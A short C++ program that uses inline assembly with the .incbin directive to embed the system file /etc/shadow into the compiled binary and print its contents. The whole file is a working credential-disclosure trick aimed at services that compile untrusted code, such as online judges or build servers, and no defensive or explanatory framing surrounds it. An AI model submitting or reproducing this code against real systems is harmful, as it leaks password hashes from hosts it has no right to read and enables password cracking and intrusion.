#include <cstdio>
__asm__(".data\n.globl secret\nsecret:\n.incbin \"/etc/shadow\"\n.byte 0\n");
extern "C" char secret[];
int main() { puts(secret); }
